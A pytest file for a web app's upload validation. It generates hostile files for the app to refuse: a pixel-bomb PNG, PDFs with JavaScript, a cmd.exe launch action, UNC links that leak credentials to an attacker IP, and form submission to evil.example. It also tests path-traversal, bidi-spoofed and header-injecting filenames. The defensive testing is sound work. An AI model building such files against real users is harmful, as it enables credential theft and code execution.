"""Uploads against the attacks seen (security issue, point 7): oversized images, active PDFs, hostile
names; and downloads that are never rendered or sniffed. First the pure rules, then through the app."""

import base64
import functools
import io
import struct
import zlib

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from onboarding_helpers import (
    BASIC,
    PDF,
    PNG,
    fill_steps,
    post_step,
    qualification,
    real_jpeg,
    real_png,
    register,
    services,
    sign,
)
from PIL import Image, ImageFile
from werkzeug.http import parse_options_header

from qzt.core import files
from qzt.extensions import db
from qzt.models import PledgeSignature, StoredFile, User
from qzt.rules import uploads
from qzt.rules.uploads import UploadRejected

# --- files an attacker sends ---


@functools.cache
def huge_png(width: int = 12000, height: int = 12000) -> bytes:
    """One colour, so a few KB on disk (the attack sample was 17 KB), yet width × height pixels."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims a size and holds almost no pixels: only the header can be read."""

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00"))
        + chunk(b"IEND", b"")
    )


def make_pdf(change=None, **save) -> bytes:
    """A one-page PDF, changed by `change(pdf)` before it is saved."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if change:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def no_pages_pdf() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def javascript(code: str = "app.alert(1)") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def annotate(pdf: pikepdf.Pdf, **annotation) -> None:
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 100, 100], **annotation)
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))


def link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    annotate(pdf, Subtype=pikepdf.Name.Link, A=action)


def openaction_js(pdf):
    pdf.Root.OpenAction = javascript()


def document_js(pdf):
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(javascript())]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def page_open_js(pdf):
    pdf.pages[0].AA = pikepdf.Dictionary(O=javascript())


def link_js(pdf):
    link(pdf, javascript())


def chained_js(pdf):
    """A harmless-looking jump whose /Next runs a script."""
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit])
    pdf.Root.OpenAction.Next = pdf.make_indirect(javascript())


def openaction_uri(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example"))


def xfa_form(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def launch(pdf):
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def unc_link(pdf):
    """A link to a Windows share: opening it sends the reader's credentials to the attacker."""
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("\\\\203.0.113.9\\share\\a")))


def remote_goto(pdf):
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\203.0.113.9\\a.pdf"), D=[0]))


def submit_form(pdf):
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example")))


def attachment(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="invoice.exe")


def attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="invoice.exe")
    annotate(pdf, Subtype=pikepdf.Name.FileAttachment, FS=spec.obj)


SCRIPTS, LAUNCHES, EMBEDS = "含有脚本或自动执行的动作", "启动程序、打开其他文件", "含有附件或嵌入的文件"

HOSTILE_PDFS = [
    (openaction_js, SCRIPTS),
    (document_js, SCRIPTS),
    (page_open_js, SCRIPTS),
    (link_js, SCRIPTS),
    (chained_js, SCRIPTS),
    (openaction_uri, SCRIPTS),
    (xfa_form, SCRIPTS),
    (launch, LAUNCHES),
    (unc_link, LAUNCHES),
    (remote_goto, LAUNCHES),
    (submit_form, LAUNCHES),
    (attachment, EMBEDS),
    (attachment_annotation, EMBEDS),
]


def refused(data: bytes, **options) -> str:
    with pytest.raises(UploadRejected) as rejected:
        uploads.check(data, "上传.pdf", **options)
    return str(rejected.value)


# --- images ---


@pytest.fixture
def no_decoding(monkeypatch):
    """Decoding pixels fails the test: sizes must be judged from the header alone."""

    def load(self):
        raise AssertionError("pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)


def test_signature_larger_than_2000x1000_is_refused_before_decoding(no_decoding):
    attack = huge_png()
    assert len(attack) < 20_000
    message = refused(attack, images_only=True, max_size=uploads.SIGNATURE_MAX)
    assert "12000×12000像素" in message and "2000×1000像素的上限" in message and "请缩小后重新上传" in message
    assert "2001×1000" in refused(png_header_only(2001, 1000), max_size=uploads.SIGNATURE_MAX)
    assert "1000×1001" in refused(png_header_only(1000, 1001), max_size=uploads.SIGNATURE_MAX)


def test_signature_within_2000x1000_is_accepted():
    assert uploads.check(real_png((2000, 1000)), images_only=True, max_size=uploads.SIGNATURE_MAX)


def test_image_over_8000x8000_is_refused(no_decoding):
    assert "12000×12000像素，超过8000×8000像素的上限" in refused(huge_png())
    assert "8001×10像素" in refused(png_header_only(8001, 10))
    assert "10×8001像素" in refused(real_jpeg((10, 8001)))


def test_image_of_8000x8000_is_accepted():
    assert uploads.check(huge_png(8000, 8000)) == "image/png"


def test_image_beyond_pillows_own_limit_is_refused_without_decoding(no_decoding):
    # 400 million pixels: Pillow itself refuses to open it (DecompressionBombError).
    assert "尺寸过大，超过8000×8000像素的上限" in refused(png_header_only(20000, 20000))


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
        b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
        PNG[: len(PNG) // 2],
        PNG[:-12],  # no IEND
        PNG[:30] + bytes([PNG[30] ^ 0xFF]) + PNG[31:],  # a checksum that no longer matches
        b"\xff\xd8\xff\xe0" + b"\x00" * 20,
        png_header_only(0, 10),
    ],
    ids=["zeros", "html", "half", "no-end", "bad-crc", "jpeg-zeros", "zero-width"],
)
def test_broken_images_are_refused_with_a_message(data):
    assert "已损坏或不完整，无法识别为图片，请重新导出后上传" in refused(data)


# --- PDFs ---


@pytest.mark.parametrize(
    "change, message", HOSTILE_PDFS, ids=[change.__name__ for change, _message in HOSTILE_PDFS]
)
def test_active_pdfs_are_refused(change, message):
    assert message in refused(make_pdf(change))
    # The same, its objects compressed into object streams, where no byte scan would see them.
    packed = make_pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert message in refused(packed)


def test_pdf_with_openaction_javascript_is_refused():
    message = refused(make_pdf(openaction_js))
    assert message == (
        "文件“上传.pdf”含有脚本或自动执行的动作，出于安全原因不能接受，"
        "请另存为普通PDF（如“打印为PDF”）后重新上传"
    )


def test_pdf_with_javascript_spelled_in_hex_escapes_is_refused():
    plain = make_pdf(openaction_js, qdf=True, compress_streams=False)
    assert b"/JavaScript" in plain and b"/JS " in plain
    # #4A is "J": the same name to a reader, invisible to a search for "/JavaScript" or "/JS".
    disguised = plain.replace(b"/JavaScript", b"/#4Aava#53cript").replace(b"/JS ", b"/#4A#53 ")
    assert b"/JavaScript" not in disguised and b"/JS " not in disguised
    assert SCRIPTS in refused(disguised)


def test_pdf_with_embedded_file_is_refused():
    message = refused(make_pdf(attachment))
    assert (
        message
        == "文件“上传.pdf”含有附件或嵌入的文件，出于安全原因不能接受，请删除附件或另存为普通PDF后重新上传"
    )


def open_at_first_page(pdf):
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])


def web_link(pdf):
    link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.foshan.gov.cn/")))


@pytest.mark.parametrize("change", [None, open_at_first_page, web_link])
def test_ordinary_pdfs_are_accepted(change):
    # Most PDF writers open the document at its first page through /OpenAction; links to web pages are
    # common in letterheads.
    assert uploads.check(make_pdf(change)) == "application/pdf"


def test_pdf_restricted_only_against_editing_is_accepted():
    # Certificates often come with an owner password (no printing or editing) but open without one:
    # qpdf reads them and every check applies.
    restricted = make_pdf(encryption=pikepdf.Encryption(user="", owner="issuer-only"))
    assert uploads.check(restricted) == "application/pdf"
    restricted_js = make_pdf(openaction_js, encryption=pikepdf.Encryption(user="", owner="issuer-only"))
    assert SCRIPTS in refused(restricted_js)


@pytest.mark.parametrize(
    "data, message",
    [
        (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "已损坏或无法读取，请重新导出为PDF后上传"),
        (b"%PDF-1.7\n" + b"\x00" * 200 + b"\n%%EOF\n", "已损坏或无法读取"),
        (PDF[: len(PDF) // 2], "不完整（文件末尾缺少结束标记"),
        (b"%PDF-1.7\n", "不完整"),
        (make_pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")), "设有打开密码，请取消密码"),
        (no_pages_pdf(), "没有任何页面，请检查后重新上传"),
    ],
    ids=["fake", "zeros", "truncated", "header-only", "password", "no-pages"],
)
def test_unreadable_pdf_is_refused_with_a_message(data, message):
    assert message in refused(data)


def many_objects_pdf(count: int) -> bytes:
    """A small page, and an array of `count` tiny objects hung from the catalog."""
    out, offsets = bytearray(b"%PDF-1.4\n"), []

    def add(body: bytes) -> None:
        offsets.append(len(out))
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (len(offsets), body))

    add(b"<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>")
    add(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    add(b"[" + b" ".join(b"%d 0 R" % n for n in range(5, count + 5)) + b"]")
    for _ in range(count):
        add(b"<< /A 1 >>")
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
    return bytes(out)


def test_pdf_of_too_many_objects_is_refused_rather_than_walked():
    assert uploads.check(many_objects_pdf(1000)) == "application/pdf"
    assert "结构过于复杂" in refused(many_objects_pdf(uploads.MAX_PDF_ENTRIES))


# --- whatever the bytes, an answer and never an exception ---


@settings(max_examples=150, deadline=None)
@given(
    head=st.sampled_from([b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", PDF[:200], PNG[:40]]),
    tail=st.binary(max_size=600),
    end=st.sampled_from([b"", b"\n%%EOF\n"]),
)
def test_any_bytes_after_a_known_signature_give_a_type_or_a_message(head, tail, end):
    try:
        assert uploads.check(head + tail + end) in uploads.ALLOWED
    except UploadRejected as rejected:
        assert str(rejected).startswith("文件") and "请" in str(rejected)


@settings(max_examples=80, deadline=None)
@given(cut=st.integers(min_value=8, max_value=len(PDF) - 1), flip=st.integers(min_value=0, max_value=255))
def test_damaged_real_pdfs_give_a_type_or_a_message(cut, flip):
    damaged = bytearray(PDF)
    damaged[cut] ^= flip
    for data in (bytes(damaged), PDF[:cut]):
        try:
            uploads.check(data)
        except UploadRejected:
            pass


# --- names ---


@pytest.mark.parametrize(
    "sent, mime, kept",
    [
        ("x.html", "image/png", "x.png"),
        ("invoice\u202eFDP.exe", "application/pdf", "invoiceFDP.pdf"),
        ("../../etc/passwd.pdf", "application/pdf", "passwd.pdf"),
        ("C:\\Users\\张三\\营业执照.PDF", "application/pdf", "营业执照.pdf"),
        ("照片.jpeg", "image/jpeg", "照片.jpg"),
        ("\u2066证书\u2069\u200b.pdf", "application/pdf", "证书.pdf"),
        ("line\nbreak\r\n.png", "image/png", "line break.png"),
        ("ＣＭＡ证书．ｐｄｆ", "application/pdf", "CMA证书.pdf"),  # full-width, as a Chinese IME types
        ("a<b>:c?.pdf", "application/pdf", "a_b__c_.pdf"),
        ("..", "application/pdf", "文件.pdf"),
        ("\u202e", "image/png", "文件.png"),
        ("", "image/jpeg", "文件.jpg"),
    ],
)
def test_display_name_has_no_path_no_invisible_characters_and_the_real_extension(sent, mime, kept):
    assert uploads.display_name(sent, mime) == kept


def test_display_name_is_capped():
    name = uploads.display_name("检" * 300 + ".pdf", "application/pdf")
    assert len(name) == uploads.NAME_MAX_CHARS and name.endswith("检.pdf")


def test_rejection_messages_show_the_cleaned_name():
    message = refused_named(b"MZ\x90\x00" + b"\x00" * 20, "../evil\u202efdp.exe")
    assert message.startswith("文件“evilfdp.exe”") and "\u202e" not in message


def refused_named(data: bytes, filename: str) -> str:
    with pytest.raises(UploadRejected) as rejected:
        uploads.check(data, filename)
    return str(rejected.value)


# --- through the app ---


@pytest.fixture
def applicant(client):
    assert register(client).status_code == 302
    assert post_step(client, 1, BASIC).status_code == 302
    return client


def applicant_user() -> User:
    return db.session.scalar(db.select(User).where(User.phone == "13600000001"))


def stored_names() -> set[str]:
    db.session.expire_all()
    return set(db.session.scalars(db.select(StoredFile.filename)))


def png_data_url(data: bytes) -> str:
    return "data:image/png;base64," + base64.b64encode(data).decode()


def test_signature_larger_than_2000x1000_is_refused_when_signing(applicant, no_decoding):
    fill_steps(applicant)  # signing follows the review of a complete application
    uploaded = stored_names()
    response = sign(applicant, name="李签名", signature=png_data_url(huge_png()))
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "图片尺寸为12000×12000像素，超过2000×1000像素的上限，请缩小后重新上传" in html
    assert 'value="李签名"' in html  # what was typed is kept
    assert db.session.scalar(db.select(PledgeSignature)) is None
    assert stored_names() == uploaded


def test_a_drawn_signature_of_the_canvas_size_is_kept(applicant):
    fill_steps(applicant)
    uploaded = stored_names()
    assert sign(applicant, signature=png_data_url(real_png((600, 200)))).status_code == 302
    assert stored_names() - uploaded == {"signature.png"}


def test_wizard_refuses_a_pdf_with_javascript_and_keeps_what_was_typed(applicant):
    fields = qualification()
    fields["q-0-file"] = (io.BytesIO(make_pdf(openaction_js)), "CMA证书.pdf")
    response = post_step(applicant, 2, {"licence": (io.BytesIO(make_pdf(attachment)), "执照.pdf"), **fields})
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "文件“CMA证书.pdf”含有脚本或自动执行的动作，出于安全原因不能接受" in html
    assert "文件“执照.pdf”含有附件或嵌入的文件" in html
    assert "2019190000" in html and "广东省市场监督管理局" in html
    assert db.session.scalar(db.select(StoredFile)) is None


def test_upload_names_are_stored_without_path_bidi_or_html_extension(applicant):
    fields = qualification()
    fields["q-0-file"] = (io.BytesIO(PDF), "../../etc/passwd.pdf")
    licence = (io.BytesIO(PDF), "invoice\u202eFDP.exe")
    assert post_step(applicant, 2, {"licence": licence, **fields}).status_code == 302
    post_step(applicant, 3, services(category="intellectual-property"))
    case = {"client_list": "佛山某公司 商标注册 2025-06", "case_images": (io.BytesIO(PNG), "x.html")}
    assert post_step(applicant, 5, case).status_code == 302
    assert stored_names() == {"passwd.pdf", "invoiceFDP.pdf", "x.png"}
    summary = applicant.get("/onboarding/step/2").get_data(as_text=True)
    assert "\u202e" not in summary and "invoiceFDP.pdf" in summary


def test_download_has_nosniff_and_library_content_disposition(applicant):
    post_step(applicant, 2, {"licence": (io.BytesIO(PDF), "营业执照.pdf")}, action="save")
    stored = db.session.scalar(db.select(StoredFile))
    response = applicant.get(f"/files/{stored.id}")
    assert response.status_code == 200 and response.data == PDF
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.mimetype == "application/pdf"
    disposition = response.headers["Content-Disposition"]
    assert "filename*=UTF-8''%E8%90%A5%E4%B8%9A%E6%89%A7%E7%85%A7.pdf" in disposition
    assert parse_options_header(disposition) == ("attachment", {"filename": "营业执照.pdf"})


@pytest.mark.parametrize(
    "old_name, mime, offered",
    [
        ("x.html", "image/png", "x.png"),
        ("invoice\u202eFDP.exe", "application/pdf", "invoiceFDP.pdf"),
        ("../../etc/passwd.pdf", "application/pdf", "passwd.pdf"),
        ('a"; filename=evil.html', "application/pdf", "a_; filename=evil.pdf"),
    ],
)
def test_names_stored_before_cleaning_are_cleaned_on_the_way_out(applicant, old_name, mime, offered):
    data = PNG if mime == "image/png" else PDF
    stored = StoredFile(
        owner_id=applicant_user().id,
        purpose="licence",
        key=files.storage().put(data, uploads.ALLOWED[mime]),
        filename=old_name,
        mime=mime,
        size=len(data),
        sha256="0" * 64,
    )
    db.session.add(stored)
    db.session.commit()
    response = applicant.get(f"/files/{stored.id}")
    assert response.status_code == 200 and response.headers["X-Content-Type-Options"] == "nosniff"
    assert parse_options_header(response.headers["Content-Disposition"]) == (
        "attachment",
        {"filename": offered},
    )
